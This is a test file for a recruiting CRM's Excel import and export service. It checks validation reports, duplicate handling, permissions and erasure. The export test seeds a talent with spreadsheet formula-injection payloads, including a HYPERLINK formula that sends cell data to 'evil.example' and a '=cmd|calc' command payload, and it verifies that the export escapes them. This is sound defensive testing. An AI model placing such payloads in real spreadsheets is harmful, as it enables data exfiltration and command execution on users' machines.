import * as grpc from '@grpc/grpc-js';
import * as ExcelJS from 'exceljs';
import { serverStreamCall, unaryCall } from '@lethe/platform/grpc';
import { exportSubject, uniqueName } from '@lethe/platform/testkit';
import type { Talent__Output, TalentImport__Output } from '@lethe/protos';
import { TalentImportStore } from '../src/imports/store';
import { inspectZip } from '../src/imports/zip';
import { createPool, createTalent, failure, profile, READ_ONLY, startTalentCrm, type TalentCrmClient, type TalentCrmKit } from './kit';
import { workbookFile, type FixtureCell } from './xlsx-files';

let kit: TalentCrmKit;
beforeAll(async () => {
  // The rules are not under test here: their rounds over a thousand imported talents' triggers would hold up the shutdown.
  kit = await startTalentCrm({ env: { TALENT_RULES_INTERVAL_MS: String(3_600_000) } });
});
// The outbox relay finishes its pass over the imported talents' events first.
afterAll(async () => {
  await kit?.close();
}, 120_000);

/** Every message WatchTalentImport sends, until the import ends. */
async function watchToEnd(client: TalentCrmClient, id: string): Promise<TalentImport__Output[]> {
  const messages: TalentImport__Output[] = [];
  for await (const message of serverStreamCall(client, 'WatchTalentImport', { id }, { deadlineMs: 120_000 })) messages.push(message as TalentImport__Output);
  return messages;
}

/** Every talent of the tenant, page by page. */
async function allTalents(client: TalentCrmClient): Promise<Talent__Output[]> {
  const talents: Talent__Output[] = [];
  let pageToken = '';
  do {
    const page = await unaryCall(client, 'ListTalents', { page: { pageSize: 200, pageToken } });
    talents.push(...page.talents);
    pageToken = page.page?.nextPageToken ?? '';
  } while (pageToken);
  return talents;
}

const HEADER = ['Vorname', 'Nachname', 'E-Mail', 'Geburtsdatum', 'Telefon', 'Fähigkeiten'];

function goodRow(n: number, tenant: string): FixtureCell[] {
  return [`Vorname${n}`, `Nachname${n}`, `talent${n}.${tenant}@example.org`, '1990-01-01', `+49 30 ${String(100000 + n)}`, 'TypeScript, Kafka'];
}

describe('the Excel import', () => {
  it('imports 1,000 rows: an exact report of the bad ones, and exactly the valid ones become talents', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    const pool = await createPool(client);
    const existing = await createTalent(client, { profile: { email: `existing.${tenant}@example.org` } });

    const rows: FixtureCell[][] = [HEADER];
    for (let n = 2; n <= 1001; n++) rows.push(goodRow(n, tenant));
    const at = (row: number) => rows[row - 1];
    at(10)[2] = null; // no email
    at(20)[2] = 'not-an-email';
    at(30)[0] = 'X'.repeat(101);
    at(40)[1] = { formula: 'CONCATENATE("No","vak")', result: 'Novak' };
    at(50)[2] = at(5)[2]; // the email of row 5
    at(60)[2] = `EXISTING.${tenant}@example.org`; // a talent's email, in other case
    at(70)[1] = '';
    at(70)[2] = 'still@not@valid';
    const file = await workbookFile(rows);

    const started = await unaryCall(client, 'StartTalentImport', { xlsx: file, fileName: 'silver-medalists.xlsx', poolIds: [pool], tags: ['Excel Import'], recruiterId: 'recruiter-7' });
    expect(started).toMatchObject({ state: 'IMPORT_STATE_RUNNING', fileName: 'silver-medalists.xlsx', dryRun: false, startedBy: 'recruiter-1' });
    const messages = await watchToEnd(client, started.id);
    const last = messages[messages.length - 1];
    expect(messages.slice(0, -1).every((message) => message.state === 'IMPORT_STATE_RUNNING' && message.problems.length === 0)).toBe(true);

    expect(last).toMatchObject({ state: 'IMPORT_STATE_DONE', totalRows: 1000, processedRows: 1000, created: 993, refused: 5, duplicates: 2, failure: '', problemsOmitted: 0 });
    expect(last.problems.map(({ row, field, code, duplicateOfRow, duplicateTalentId }) => ({ row, field, code, duplicateOfRow, duplicateTalentId }))).toEqual([
      { row: 1, field: 'D', code: 'unknown_column', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 10, field: 'email', code: 'required', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 20, field: 'email', code: 'invalid_format', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 30, field: 'first_name', code: 'too_long', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 40, field: 'last_name', code: 'formula', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 50, field: 'email', code: 'duplicate_in_file', duplicateOfRow: 5, duplicateTalentId: '' },
      { row: 60, field: 'email', code: 'duplicate_talent', duplicateOfRow: 0, duplicateTalentId: existing.id },
      { row: 70, field: 'last_name', code: 'required', duplicateOfRow: 0, duplicateTalentId: '' },
      { row: 70, field: 'email', code: 'invalid_format', duplicateOfRow: 0, duplicateTalentId: '' },
    ]);
    // Where and why, never what the cell held.
    expect(JSON.stringify(last.problems)).not.toMatch(/not-an-email|XXXX|CONCATENATE|Novak|still@|example\.org/);
    // The row refused as a duplicate of the existing talent is part of that person's data export.
    expect((await exportSubject(kit.service, kit.auth, tenant, existing.id)).sections.importProblems).toEqual([
      { importId: started.id, importStartedAt: expect.any(String), row: 60, field: 'email', code: 'duplicate_talent', description: last.problems[6]!.description, duplicateOfRow: null },
    ]);
    expect(await unaryCall(client, 'GetTalentImport', { id: started.id })).toEqual(last);

    const imported = (await allTalents(client)).filter((talent) => talent.source === 'TALENT_SOURCE_EXCEL_IMPORT');
    const refusedRows = new Set([10, 20, 30, 40, 50, 60, 70]);
    const expectedEmails = rows.slice(1).flatMap((row, index) => (refusedRows.has(index + 2) ? [] : [String(row[2])]));
    expect(imported.map((talent) => talent.profile!.email).sort()).toEqual(expectedEmails.sort());
    expect(imported[0]).toMatchObject({ sourceInfo: 'silver-medalists.xlsx', poolIds: [pool], tags: ['excel import'], recruiterId: 'recruiter-7', createdBy: 'recruiter-1', status: 'TALENT_STATUS_NEW' });
    const row2 = imported.find((talent) => talent.profile!.email === `talent2.${tenant}@example.org`)!;
    expect(row2.profile).toMatchObject({ firstName: 'Vorname2', lastName: 'Nachname2', phone: '+49 30 100002', skills: ['TypeScript', 'Kafka'] });
  }, 180_000);

  it('a dry run reports what it would refuse, duplicates included, and creates nothing; an erased talent is no longer named by it', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    const existing = await createTalent(client);
    const file = await workbookFile([
      ['First name', 'Last name', 'Email'],
      ['Jana', 'Novak', `jana.${tenant}@example.org`],
      ['Max', 'Muster', existing.profile!.email],
      ['', 'Nobody', `nobody.${tenant}@example.org`],
    ]);
    const started = await unaryCall(client, 'StartTalentImport', { xlsx: file, fileName: 'check.xlsx', dryRun: true });
    const last = (await watchToEnd(client, started.id)).pop()!;
    expect(last).toMatchObject({ state: 'IMPORT_STATE_DONE', dryRun: true, totalRows: 3, processedRows: 3, created: 0, refused: 1, duplicates: 1 });
    expect(last.problems.map(({ row, field, code }) => ({ row, field, code }))).toEqual([
      { row: 3, field: 'email', code: 'duplicate_talent' },
      { row: 4, field: 'first_name', code: 'required' },
    ]);
    expect((await allTalents(client)).map((talent) => talent.id)).toEqual([existing.id]);

    // Erased, the talent is no longer named by the report; its rows and codes stay.
    const driver = await kit.erasure();
    expect(await driver.erase(tenant, existing.id)).toMatchObject({ outcome: 'ERASURE_OUTCOME_DONE', counts: { importReports: 1, talents: 1 } });
    const after = await unaryCall(client, 'GetTalentImport', { id: started.id });
    expect(after.problems.map(({ row, code, duplicateTalentId }) => ({ row, code, duplicateTalentId }))).toEqual([
      { row: 3, code: 'duplicate_talent', duplicateTalentId: '' },
      { row: 4, code: 'required', duplicateTalentId: '' },
    ]);
  }, 60_000);

  it('maps columns as told, and refuses a mapping without first name, last name and email before anything runs', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    const file = await workbookFile([
      ['Given', 'Family', 'Contact'],
      ['Jana', 'Novak', `jana.${tenant}@example.org`],
    ]);
    const refused = await failure(unaryCall(client, 'StartTalentImport', { xlsx: file, fileName: 'crm.xlsx' }));
    expect(refused.code).toBe(grpc.status.INVALID_ARGUMENT);
    expect(refused.violations).toEqual([{ field: 'columns', code: 'required', description: expect.stringMatching(/^no column fills first_name, last_name, email:/) }]);

    const started = await unaryCall(client, 'StartTalentImport', {
      xlsx: file,
      fileName: 'crm.xlsx',
      columns: [
        { column: 'Given', field: 'first_name' },
        { column: 'Family', field: 'last_name' },
        { column: 'Contact', field: 'email' },
      ],
    });
    expect((await watchToEnd(client, started.id)).pop()).toMatchObject({ state: 'IMPORT_STATE_DONE', created: 1, problems: [] });
    expect((await allTalents(client)).map((talent) => talent.profile!.firstName)).toEqual(['Jana']);
  }, 60_000);

  it('refuses bad requests with the field named: no file, not a workbook, an unknown pool, a file name with a folder', async () => {
    const client = await kit.client(uniqueName('tenant'));
    const file = await workbookFile([['Vorname', 'Nachname', 'E-Mail']]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { fileName: 'x.xlsx' }))).violations).toEqual([{ field: 'xlsx', code: 'required', description: 'is required' }]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { xlsx: Buffer.from('Vorname;Nachname\n'), fileName: 'x.csv' }))).violations).toEqual([
      { field: 'xlsx', code: 'not_xlsx', description: 'is not an .xlsx workbook (not a zip archive)' },
    ]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { xlsx: file, fileName: 'x.xlsx', poolIds: ['no-such-pool'] }))).violations).toEqual([
      { field: 'poolIds[0]', code: 'unknown_pool', description: 'is not a pool of this tenant' },
    ]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { xlsx: file, fileName: '../x.xlsx' }))).violations).toMatchObject([{ field: 'fileName', code: 'invalid_format' }]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { xlsx: Buffer.alloc(5 * 1024 * 1024 + 1), fileName: 'big.xlsx' }))).violations).toMatchObject([{ field: 'xlsx', code: 'too_big' }]);
    expect((await failure(unaryCall(client, 'StartTalentImport', { xlsx: await workbookFile([]), fileName: 'empty.xlsx' }))).violations).toEqual([
      { field: 'xlsx', code: 'not_xlsx', description: 'the first worksheet is empty' },
    ]);
  });

  it('needs talents:write to import and talents:read to follow one; another tenant finds no import', async () => {
    const tenant = uniqueName('tenant');
    const file = await workbookFile([
      ['Vorname', 'Nachname', 'E-Mail'],
      ['Jana', 'Novak', `jana.${tenant}@example.org`],
    ]);
    const reader = await kit.client(tenant, READ_ONLY);
    const denied = await failure(unaryCall(reader, 'StartTalentImport', { xlsx: file, fileName: 'x.xlsx' }));
    expect(denied).toMatchObject({ code: grpc.status.PERMISSION_DENIED, reason: 'MISSING_RIGHT' });
    expect(await allTalents(reader)).toEqual([]);

    const started = await unaryCall(await kit.client(tenant), 'StartTalentImport', { xlsx: file, fileName: 'x.xlsx' });
    expect((await watchToEnd(reader, started.id)).pop()).toMatchObject({ state: 'IMPORT_STATE_DONE', created: 1 });
    const stranger = await kit.client(uniqueName('tenant'));
    expect((await failure(unaryCall(stranger, 'GetTalentImport', { id: started.id }))).code).toBe(grpc.status.NOT_FOUND);
    expect((await failure(unaryCall(await kit.client(tenant, []), 'GetTalentImport', { id: started.id }))).code).toBe(grpc.status.PERMISSION_DENIED);
  }, 60_000);

  it('fails a file of more than 20,000 rows after reading it, with nothing created', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    const rows: FixtureCell[][] = [['Vorname', 'Nachname', 'E-Mail']];
    for (let n = 1; n <= 20_001; n++) rows.push(['A', 'B', `r${n}@example.org`]);
    const started = await unaryCall(client, 'StartTalentImport', { xlsx: await workbookFile(rows), fileName: 'huge.xlsx' });
    expect((await watchToEnd(client, started.id)).pop()).toMatchObject({ state: 'IMPORT_STATE_FAILED', failure: 'the file has more than 20000 rows; nothing was imported', created: 0 });
    expect(await allTalents(client)).toEqual([]);
  }, 120_000);

  it('marks an import whose process stopped saying it is alive as failed when it is next read', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    const store = new TalentImportStore(kit.service.runtime.mongo);
    const longAgo = new Date(Date.now() - 5 * 60_000);
    const orphan = await store.insert({
      _id: uniqueName('import'),
      tenantId: tenant,
      state: 'running',
      fileName: 'orphan.xlsx',
      dryRun: false,
      totalRows: 100,
      processedRows: 40,
      created: 40,
      refused: 0,
      duplicates: 0,
      problems: [],
      problemsOmitted: 0,
      failure: '',
      startedAt: longAgo,
      startedBy: 'recruiter-1',
      heartbeatAt: longAgo,
      revision: 3,
    });
    expect(await unaryCall(client, 'GetTalentImport', { id: orphan._id })).toMatchObject({ state: 'IMPORT_STATE_FAILED', failure: 'the import stopped: the process that ran it ended', processedRows: 40, created: 40 });
    expect((await watchToEnd(client, orphan._id)).map((message) => message.state)).toEqual(['IMPORT_STATE_FAILED']);
  });
});

describe('the Excel export', () => {
  it('writes the talents as text cells, every formula trigger behind an apostrophe, and the file imports again', async () => {
    const tenant = uniqueName('tenant');
    const client = await kit.client(tenant);
    // Profile fields are trimmed; the source info is kept as given, so it carries the tab.
    const hostile = await unaryCall(client, 'CreateTalent', {
      profile: profile({ firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', lastName: '+SUM(1,2)', headline: '-2+3', city: '@cmd', salaryExpectation: '=1+1', phone: '+49 30 1234567' }),
      tags: ['export'],
      sourceInfo: '\t=cmd|calc',
    });
    const plain = await createTalent(client, { profile: { firstName: 'Jana', lastName: 'Novak' }, tags: ['other'] });

    const exported = await unaryCall(client, 'ExportTalents', { filter: { tag: 'export' } });
    expect(exported).toMatchObject({ rows: 1, truncated: false });
    const xlsx = exported.xlsx as Buffer;
    // No cell of the file is a formula: its sheet has no <f> element at all.
    const directory = inspectZip(xlsx);
    expect(directory.byName.has('xl/worksheets/sheet1.xml')).toBe(true);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(xlsx).buffer);
    const sheet = workbook.worksheets[0];
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
    expect(cells.every((cell) => typeof cell.value === 'string')).toBe(true);
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const valueOf = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1).value;
    expect(valueOf('Talent ID')).toBe(hostile.id);
    expect(valueOf('First name')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(valueOf('Last name')).toBe("'+SUM(1,2)");
    expect(valueOf('Position')).toBe("'-2+3");
    expect(valueOf('City')).toBe("'@cmd");
    expect(valueOf('Salary expectation')).toBe("'=1+1");
    expect(valueOf('Source info')).toBe("'\t=cmd|calc");
    expect(valueOf('Phone')).toBe("'+49 30 1234567");
    expect(valueOf('E-Mail')).toBe(hostile.profile!.email);
    expect(valueOf('Tags')).toBe('export');

    const all = await unaryCall(client, 'ExportTalents', {});
    expect(all.rows).toBe(2);
    // Imported again (a dry run): every row is a talent already, the apostrophes taken back off.
    const again = await unaryCall(client, 'StartTalentImport', { xlsx: all.xlsx, fileName: 'export.xlsx', dryRun: true });
    const report = (await watchToEnd(client, again.id)).pop()!;
    expect(report).toMatchObject({ state: 'IMPORT_STATE_DONE', totalRows: 2, refused: 0, duplicates: 2 });
    expect(report.problems.filter((problem) => problem.code === 'duplicate_talent').map((problem) => problem.duplicateTalentId).sort()).toEqual([hostile.id, plain.id].sort());
  }, 60_000);

  it('needs talents:read', async () => {
    const denied = await failure(unaryCall(await kit.client(uniqueName('tenant'), []), 'ExportTalents', {}));
    expect(denied.code).toBe(grpc.status.PERMISSION_DENIED);
  });
});
